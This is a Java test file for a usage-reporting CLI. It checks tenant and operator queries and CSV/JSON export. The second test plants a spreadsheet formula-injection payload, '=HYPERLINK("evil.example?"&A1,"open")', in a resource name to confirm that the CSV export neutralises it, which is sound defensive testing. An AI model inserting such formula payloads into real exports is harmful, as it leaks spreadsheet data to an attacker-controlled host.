package org.stackledger.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.stackledger.app.EndpointRole;
import org.stackledger.testing.Engine;
import org.stackledger.testing.SteppingClock;
import org.stackledger.testing.TestClient;
import org.stackledger.testing.TestServer;
import org.stackledger.usage.UsageEvent;
import org.stackledger.usersubscriptions.Stack;

/**
 * {@code stackledger usage get|subscribers|export} against a real server: a tenant reads its own
 * usage as itself, the operator reads every direct tenant's and exports the Usagesummary.ps1 CSV.
 */
class UsageQueryCommandTest {
  private static final String BASE_VM = "FAB6EB84-500B-4A09-A8CA-7358F8BBAEA5";
  private static final String BLOB = "09F8879E-87E9-4305-A572-4B7BE209F857";

  @Test
  void tenantAndOperatorReadUsageAndExportItAsCsv() throws Exception {
    SteppingClock clock = new SteppingClock();
    try (TestServer server = TestServer.start(Engine.H2, o -> o.withClock(clock))) {
      Stack stack = Stack.of(server);
      String offer = stack.publicOffer("cli", "Public");
      Stack.Guest guest = stack.guest();
      String sub = stack.subscribe(guest, offer, null);
      Instant hour = clock.instant().truncatedTo(ChronoUnit.HOURS).minus(1, ChronoUnit.HOURS);
      List<UsageEvent> events = new ArrayList<>();
      BigDecimal vmHours = BigDecimal.ZERO;
      for (int i = 0; i < 3; i++) {
        BigDecimal q = new BigDecimal("1.25").multiply(BigDecimal.valueOf(i + 1));
        vmHours = vmHours.add(q);
        events.add(new UsageEvent(UUID.randomUUID().toString(), sub, BASE_VM, q, hour, hour.plusSeconds(3600),
            "/subscriptions/" + sub + "/resourceGroups/apps/providers/Microsoft.Compute/virtualMachines/web", "local",
            "{\"env\":\"prod\"}", "{\"ServiceType\":\"Standard_D2_v2\"}"));
      }
      events.add(new UsageEvent(UUID.randomUUID().toString(), sub, BLOB, new BigDecimal("0.5"), hour, hour.plusSeconds(3600),
          "/subscriptions/" + sub + "/resourceGroups/data/providers/Microsoft.Storage/storageAccounts/logs", "local",
          null, null));
      TestClient.Response sent = server.client(EndpointRole.STACK_ADMIN_ARM).post(
          "/providers/Stackledger.Usage/usageEvents?api-version=2026-11-01",
          new String(UsageEvent.toJson(events), java.nio.charset.StandardCharsets.UTF_8));
      assertThat(sent.status()).as(sent.body()).isEqualTo(200);
      clock.advance(Duration.ofDays(1));
      String from = clock.instant().truncatedTo(ChronoUnit.DAYS).minus(2, ChronoUnit.DAYS).toString();
      String to = clock.instant().truncatedTo(ChronoUnit.DAYS).toString();

      // The tenant, signed in as itself (a user with a password), reads its own subscription.
      CliRun login = CliRun.in(server.dataDir(), "login", "-u", guest.upn(), "-p", guest.password(), "--tenant",
          guest.tenant().tenantId());
      assertThat(login.code()).as(login.err()).isZero();
      CliRun mine = CliRun.in(server.dataDir(), "usage", "get", "--subscription", sub, "--from", from, "--to", to,
          "--granularity", "Hourly", "--json");
      assertThat(mine.code()).as(mine.err()).isZero();
      JsonNode rows = mine.json().path("value");
      assertThat(rows).hasSize(2);
      BigDecimal vm = BigDecimal.ZERO;
      for (JsonNode r : rows) {
        if (r.path("properties").path("meterId").asText().equals(BASE_VM)) {
          vm = vm.add(new BigDecimal(r.path("properties").path("quantity").asText()));
        }
      }
      assertThat(vm).isEqualByComparingTo(vmHours);
      CliRun table = CliRun.in(server.dataDir(), "usage", "get", "--subscription", sub, "--from", from, "--to", to);
      assertThat(table.out()).contains("QUANTITY").contains("7.5").contains("virtualMachines/web");
      assertThat(table.out()).as("the meter's name beside its GUID").contains("METER NAME")
          .containsPattern(BASE_VM + "\\s+Base VM Size Hours\\s+");

      // The operator reads every direct tenant's usage and exports it.
      CliRun operator = CliRun.in(server.dataDir(), "login", "--service-principal", "-u", server.admin().clientId(),
          "-p", server.admin().clientSecret());
      assertThat(operator.code()).as(operator.err()).isZero();
      CliRun all = CliRun.in(server.dataDir(), "usage", "subscribers", "--from", from, "--to", to, "--json");
      assertThat(all.code()).as(all.err()).isZero();
      assertThat(all.json().path("value")).hasSize(2);
      CliRun csv = CliRun.in(server.dataDir(), "usage", "export", "--format", "csv", "--from", from, "--to", to);
      assertThat(csv.code()).as(csv.err()).isZero();
      String[] lines = csv.out().split("\r\n");
      assertThat(lines[0]).isEqualTo("UsageStartTime,UsageEndTime,MeterName,Quantity,resourceType,location,resourceGroup,"
          + "resourceName,subowner,tags,MeterId,additionalInfo,subscription,resourceUri");
      assertThat(lines).hasSize(3);
      String vmLine = lines[1].contains(BASE_VM) ? lines[1] : lines[2];
      assertThat(vmLine).contains("Base VM Size Hours").contains(",7.5,").contains(",virtualMachines,local,apps,web,")
          .contains(guest.upn()).contains("\"{\"\"env\"\":\"\"prod\"\"}\"").contains(sub);
      assertThat(CliRun.in(server.dataDir(), "usage", "export", "--format", "xml", "--from", from, "--to", to).code())
          .isNotZero();
      // One name for "write to this file" (--out); --output is the format everywhere.
      java.nio.file.Path file = server.dataDir().resolve("usage.csv");
      CliRun toFile = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to, "--out", file.toString());
      assertThat(toFile.code()).as(toFile.err()).isZero();
      assertThat(toFile.out()).isEmpty();
      assertThat(java.nio.file.Files.readString(file)).isEqualTo(csv.out());
      CliRun old = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to, "--output", "usage.csv");
      assertThat(old.code()).isEqualTo(2);
      assertThat(old.err()).contains("use --out usage.csv");
      CliRun asJson = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to, "-o", "json");
      assertThat(asJson.json().findValuesAsText("MeterName")).contains("Base VM Size Hours");
    }
  }

  @Test
  void aResourceNamedLikeASpreadsheetFormulaIsExportedAsText() throws Exception {
    SteppingClock clock = new SteppingClock();
    try (TestServer server = TestServer.start(Engine.H2, o -> o.withClock(clock))) {
      Stack stack = Stack.of(server);
      String offer = stack.publicOffer("formula", "Public");
      String sub = stack.subscribe(stack.guest(), offer, null);
      Instant hour = clock.instant().truncatedTo(ChronoUnit.HOURS).minus(1, ChronoUnit.HOURS);
      // Every name in the resource id is the tenant's to choose; the usage path keeps them as sent.
      String name = "=HYPERLINK(\"evil.example?\"&A1,\"open\")";
      UsageEvent event = new UsageEvent(UUID.randomUUID().toString(), sub, BASE_VM, new BigDecimal("2.5"), hour,
          hour.plusSeconds(3600), "/subscriptions/" + sub + "/resourceGroups/@group/providers/Microsoft.Compute/"
              + "virtualMachines/" + name, "-1+local", "{\"owner\":\"=1+2\"}", null);
      TestClient.Response sent = server.client(EndpointRole.STACK_ADMIN_ARM).post(
          "/providers/Stackledger.Usage/usageEvents?api-version=2026-11-01",
          new String(UsageEvent.toJson(List.of(event)), java.nio.charset.StandardCharsets.UTF_8));
      assertThat(sent.status()).as(sent.body()).isEqualTo(200);
      clock.advance(Duration.ofDays(1));
      String from = clock.instant().truncatedTo(ChronoUnit.DAYS).minus(2, ChronoUnit.DAYS).toString();
      String to = clock.instant().truncatedTo(ChronoUnit.DAYS).toString();
      CliRun operator = CliRun.in(server.dataDir(), "login", "--service-principal", "-u", server.admin().clientId(),
          "-p", server.admin().clientSecret());
      assertThat(operator.code()).as(operator.err()).isZero();

      CliRun csv = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to);
      assertThat(csv.code()).as(csv.err()).isZero();
      String[] lines = csv.out().split("\r\n");
      assertThat(lines).hasSize(2);
      // location, resourceGroup, resourceName: each a cell a spreadsheet shows as text, not a formula.
      assertThat(lines[1]).contains(",2.5,virtualMachines,'-1+local,'@group,"
          + "\"'=HYPERLINK(\"\"evil.example?\"\"&A1,\"\"open\"\")\",")
          .as("JSON in a cell starts with a brace, which runs nothing").contains(",\"{\"\"owner\"\":\"\"=1+2\"\"}\",");
      // Shown any other way the names are as the tenant chose them.
      CliRun asJson = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to, "-o", "json");
      assertThat(asJson.json().findValuesAsText("resourceName")).containsExactly(name);
      assertThat(asJson.json().findValuesAsText("location")).containsExactly("-1+local");
    }
  }
}
